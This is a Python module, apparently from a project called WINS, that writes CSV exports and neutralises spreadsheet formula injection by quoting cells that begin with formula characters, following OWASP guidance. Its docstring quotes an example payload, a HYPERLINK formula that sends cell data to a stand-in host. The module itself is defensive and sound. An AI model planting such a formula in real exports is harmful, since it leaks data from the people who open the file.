"""The one CSV writer of WINS: cells a spreadsheet would run as a formula are written as plain text.

A service, counter or staff name such as `=HYPERLINK("http://evil.example/?"&A1,"Click")` would otherwise
become a live formula in the manager's Excel or LibreOffice when they open a report export (CSV injection,
OWASP). The OWASP rule: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
single quote in front, which spreadsheets show as text and do not evaluate.

Numbers stay numbers: cells given as `int`, `float` or `Decimal`, and text that is wholly a plain decimal number
(`-3`, `12.5`, as our formatting of durations writes them), cannot be a formula, so they are written unchanged
and a spreadsheet still adds them up. Anything else that merely starts like a number (`-1+2`, `+33 1 23`) is
neutralised.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """`value` as a CSV cell no spreadsheet evaluates."""
    if value is None or isinstance(value, int | float | Decimal):  # bool is an int
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, out: _Writable, *, lineterminator: str = "\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
